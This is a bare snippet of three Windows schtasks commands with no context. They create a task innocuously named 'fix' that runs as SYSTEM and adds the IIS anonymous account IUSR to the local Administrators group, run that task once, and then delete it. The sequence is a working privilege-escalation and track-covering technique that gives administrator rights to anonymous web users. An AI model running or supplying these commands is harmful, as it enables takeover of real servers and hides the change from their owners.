schtasks /create /tn "\Contoso\fix" /sc once /st 00:00 /ru SYSTEM /tr "net localgroup Administrators IUSR /add" /f
schtasks /run /tn "\Contoso\fix"
schtasks /delete /tn "\Contoso\fix" /f
